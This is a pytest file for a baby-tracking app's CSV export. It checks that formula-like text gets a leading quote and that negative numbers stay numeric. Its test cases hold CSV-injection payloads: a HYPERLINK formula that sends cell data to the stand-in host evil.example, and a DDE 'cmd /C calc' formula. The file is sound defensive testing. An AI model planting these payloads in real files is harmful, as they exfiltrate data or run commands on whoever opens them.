"""CSV injection: text a family typed is never a live formula when the export is opened in a
spreadsheet, and numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from decimal import Decimal

import pytest
from django.utils import timezone

from firsttouch.babies.models import Baby
from firsttouch.portability import export
from firsttouch.tracking.models import IllnessCheck, Note, Sleep
from tests.cast import Member

LINK = '=HYPERLINK("http://evil.example/?d="&A2,"Click for results")'


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (LINK, "'" + LINK),
        ("+44 20 7946 0000 = the GP", "'+44 20 7946 0000 = the GP"),
        ("-1 feed today", "'-1 feed today"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Slept well = happy", "Slept well = happy"),
        ("", ""),
    ],
)
def test_a_text_cell_that_would_be_a_formula_gets_a_quote(typed: str, written: str) -> None:
    assert export.neutralise(typed) == written


def test_a_note_with_a_formula_is_exported_as_text(alice: Member, mia: Baby) -> None:
    now = timezone.now()
    Note.objects.create(baby=mia, time=now - timedelta(minutes=5), notes=LINK)
    Sleep.objects.create(
        baby=mia, start=now - timedelta(hours=3), end=now - timedelta(hours=2), notes="-1"
    )
    archive = zipfile.ZipFile(io.BytesIO(export.export_zip(alice.user, alice.family)))
    [note] = read(archive.read("note.csv").decode("utf-8-sig"))
    assert note["notes"] == "'" + LINK
    [sleep] = read(archive.read("sleep.csv").decode("utf-8-sig"))
    assert sleep["notes"] == "'-1"  # text, even when it looks like a number
    assert sleep["id"] == str(Sleep.objects.get().pk)


def test_negative_numbers_stay_numbers(alice: Member, mia: Baby) -> None:
    check = IllnessCheck.objects.create(
        baby=mia, time=timezone.now() - timedelta(hours=1), temperature_c=Decimal("37.0")
    )
    # No form accepts it; written directly to show a number column is left alone.
    IllnessCheck.objects.filter(pk=check.pk).update(temperature_c=Decimal("-1.5"))
    [row] = read(export.csv_files(alice.user, alice.family)["illness.csv"])
    assert row["temperature_c"] == "-1.5"
    table = export.Table(
        "t.csv",
        [
            export.Column("delta", "integer", "A change.", lambda r: r["delta"]),
            export.Column("note", "text", "A note.", lambda r: r["note"]),
        ],
        [{"delta": -1, "note": "-1"}],
    )
    assert list(table.lines()) == [["-1", "'-1"]]
